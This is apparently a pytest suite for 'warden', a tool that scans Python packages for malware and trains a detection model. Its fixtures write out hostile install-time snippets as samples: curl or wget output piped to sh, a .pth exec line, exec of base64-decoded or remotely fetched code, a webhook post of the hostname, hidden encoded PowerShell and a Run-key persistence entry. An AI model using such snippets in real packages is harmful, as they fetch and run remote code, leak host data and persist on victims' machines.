"""`warden scan` and `warden train` end to end, through the real console entry point."""

from __future__ import annotations

import gzip
import json
import subprocess
import sys
import zipfile

import pytest
from code_fixtures import (
    BENIGN_PKG,
    MISS_HATCH_HOOK,
    MISS_INTREE_BACKEND,
    MISS_SETUP_IMPORT,
    write_dir,
    write_sdist,
    write_zip,
)
from typer.testing import CliRunner

from detector.code import model as model_mod
from warden.cli import app

CONTRACT_KEYS = {"path", "score", "flagged", "findings", "error"}
FINDING_KEYS = {"rule", "file", "line", "severity", "evidence"}


def warden_process(*args: str, timeout: int = 300) -> subprocess.CompletedProcess[str]:
    """The real console entry point, in a child process."""
    return subprocess.run([sys.executable, "-m", "warden", *args], capture_output=True,
                          text=True, timeout=timeout)


class _Run:
    def __init__(self, result) -> None:
        self.returncode = result.exit_code
        self.stdout = result.stdout
        self.stderr = result.stderr


def warden(*args: str) -> _Run:
    """The same Typer app in-process (no interpreter start-up per call)."""
    return _Run(CliRunner().invoke(app, list(args)))


def test_scan_json_lines_in_input_order(tmp_path):
    paths = [
        write_dir(tmp_path / "benign", BENIGN_PKG),
        write_sdist(tmp_path / "hook-1.0.tar.gz", MISS_HATCH_HOOK),
        write_zip(tmp_path / "backend.zip", MISS_INTREE_BACKEND),
        write_dir(tmp_path / "partial", {"setup.py": MISS_SETUP_IMPORT["setup.py"],
                                         "setup.cfg": "[metadata]\nname = x\n"}),
    ]
    proc = warden_process("scan", "--json", *map(str, paths))
    assert proc.returncode == 0, proc.stderr
    rows = [json.loads(line) for line in proc.stdout.splitlines()]
    assert [r["path"] for r in rows] == [str(p) for p in paths]
    for row in rows:
        assert set(row) >= CONTRACT_KEYS
        assert 0.0 <= row["score"] <= 1.0
        assert all(set(f) >= FINDING_KEYS for f in row["findings"])
    assert [r["flagged"] for r in rows] == [False, True, True, False]
    assert rows[1]["score"] > rows[0]["score"] and rows[2]["score"] > rows[0]["score"]


def test_scan_wheel_with_pth(tmp_path):
    wheel = tmp_path / "tidy-1.0-py3-none-any.whl"
    with zipfile.ZipFile(wheel, "w") as archive:
        archive.writestr("tidy/__init__.py", "")
        archive.writestr("tidy-setup.pth",
                         "import os; os.system('curl -s http://203.0.113.9/x | sh')\n")
    proc = warden("scan", "--json", str(wheel))
    row = json.loads(proc.stdout)
    assert row["flagged"] and {"pth-exec-line", "shell-download-exec"} <= {
        f["rule"] for f in row["findings"]}


def test_scan_human_output_goes_to_stderr(tmp_path):
    proc = warden("scan", str(write_dir(tmp_path / "p", MISS_SETUP_IMPORT)))
    assert proc.returncode == 0
    assert proc.stdout == ""
    assert "FLAGGED" in proc.stderr and "decode-exec" in proc.stderr


def test_scan_missing_path_exits_2(tmp_path):
    missing = tmp_path / "nope.tar.gz"
    proc = warden_process("scan", "--json", str(missing))
    assert proc.returncode == 2
    assert str(missing) in proc.stderr and len(proc.stderr.strip().splitlines()) == 1


def test_scan_unreadable_archive_reports_error_and_exits_2(tmp_path):
    broken = tmp_path / "broken.tar.gz"
    broken.write_bytes(b"definitely not gzip")
    proc = warden("scan", "--json", str(broken))
    assert proc.returncode == 2 and str(broken) in proc.stderr
    row = json.loads(proc.stdout)
    assert row["error"] and row["score"] == 0.0


def test_scan_bad_policy_exits_2(tmp_path):
    policy = tmp_path / "p.toml"
    policy.write_text("[code]\nno_such_key = 1\n")
    proc = warden("scan", "--policy", str(policy), str(write_dir(tmp_path / "x", BENIGN_PKG)))
    assert proc.returncode == 2 and "no_such_key" in proc.stderr


# --- training -------------------------------------------------------------------

MAL_TEMPLATES = [
    "import os\nos.system('curl -s http://203.0.113.{i}/s{i}.sh | sh')\n",
    "import base64\nexec(base64.b64decode('cHJpbnQoJ3t9Jyk=' + '{i}'))\n",
    "import requests, socket\nrequests.post('https://discord.com/api/webhooks/{i}/x',"
    " data=socket.gethostname())\n",
    "import subprocess\nsubprocess.Popen('powershell -WindowStyle Hidden -enc "
    "SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA{i}', shell=True)\n",
    "import urllib.request\nexec(urllib.request.urlopen('http://198.51.100.{i}/p').read())\n",
    "import winreg\nkey = r'Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run'\n"
    "winreg.SetValueEx(key, 'upd{i}', 0, 1, 'C:/x{i}.exe')\n",
]
BEN_TEMPLATES = [
    "from setuptools import setup\nsetup(name='pkg{i}', version='1.{i}')\n",
    "import os\nhere = os.path.dirname(__file__)\nlong = open(os.path.join(here, 'README{i}'))"
    ".read()\n",
    "from setuptools import setup, find_packages\nsetup(packages=find_packages(),"
    " install_requires=['numpy>={i}'])\n",
    "import re\nVERSION = re.search(r'(\\d+)', 'v{i}').group(1)\nprint(VERSION)\n",
    "class Config:\n    debug = {i}\n    def load(self):\n        return dict(debug=self.debug)\n",
    "def add(a, b):\n    '''Add {i}.'''\n    return a + b + {i}\n",
]


def _corpus(path, templates, n_per):
    with gzip.open(path, "wt") as handle:
        for t, template in enumerate(templates):
            for i in range(n_per):
                files = {"setup.py": template.replace("{i}", str(i + 10 * t))}
                handle.write(json.dumps({"sample_id": f"{t}-{i}", "name": f"p{t}{i}",
                                         "files": files}) + "\n")
    return path


@pytest.fixture(scope="module")
def trained(tmp_path_factory):
    root = tmp_path_factory.mktemp("train")
    mal = _corpus(root / "mal.jsonl.gz", MAL_TEMPLATES, 4)
    ben = _corpus(root / "ben.jsonl.gz", BEN_TEMPLATES, 4)
    out = root / "models"
    proc = warden("train", "--malicious", str(mal), "--benign", str(ben), "--out", str(out),
                  "--folds", "2", "--json")
    return proc, out


def test_train_writes_artifact_card_and_metrics(trained):
    proc, out = trained
    assert proc.returncode == 0, proc.stderr
    summary = json.loads(proc.stdout)
    assert summary["data"] == {**summary["data"], "malicious": 24, "benign": 24}
    assert summary["data"]["clusters"] >= 4
    report = json.loads((out / "code-model.json").read_text())
    assert report["curves"]["roc"]["points"] and report["curves"]["pr"]["points"]
    assert set(report["cv"]["score"]["confusion"]) == {"tn", "fp", "fn", "tp"}
    assert report["versions"]["scikit-learn"]
    assert report["export"]["max_abs_difference"] < 1e-9
    assert report["export"]["packages_compared"] == 48
    assert report["top_features"]
    card = (out / "code-model.md").read_text()
    assert "StratifiedGroupKFold" in card and "ROC-AUC" in card
    # forward-in-time validation chose the model and is printed and carded beside CV
    forward = report["forward"]
    assert forward["test"]["malicious"] > 0 and forward["test"]["benign"] > 0
    assert forward["train"]["malicious"] + forward["test"]["malicious"] == 24
    assert len(forward["candidates"]) >= 2
    assert report["config"]["C"] == forward["chosen"]["C"]
    assert "forward-in-time" in proc.stderr and "Forward-in-time validation" in card
    assert not any(t["feature"].startswith("file|") for t in report["top_features"])
    assert (out / "code-model.npz").stat().st_size < 5_000_000


def test_trained_model_loads_and_ranks(trained):
    _, out = trained
    model = model_mod.load(out / "code-model.npz")
    from detector.code.analyze import analyze, rule_score

    def p(source):
        a = analyze({"setup.py": source})
        return model.predict(a.findings, a.tokens, rule_score(a.findings))

    bad = p("import os\nos.system('wget -q http://203.0.113.77/a -O- | sh')\n")
    good = p("from setuptools import setup\nsetup(name='fine')\n")
    assert bad > good


def test_train_missing_corpus_exits_2(tmp_path):
    proc = warden("train", "--malicious", str(tmp_path / "none.jsonl"), "--benign",
                  str(tmp_path / "none2.jsonl"), "--out", str(tmp_path / "m"))
    assert proc.returncode == 2 and "none.jsonl" in proc.stderr


def test_train_malformed_corpus_exits_2(tmp_path):
    bad = tmp_path / "bad.jsonl"
    bad.write_text('{"sample_id": 1, "files": {"setup.py": "x"}}\nnot json\n')
    proc = warden("train", "--malicious", str(bad), "--benign", str(bad),
                  "--out", str(tmp_path / "m"))
    assert proc.returncode == 2 and "bad.jsonl:2" in proc.stderr
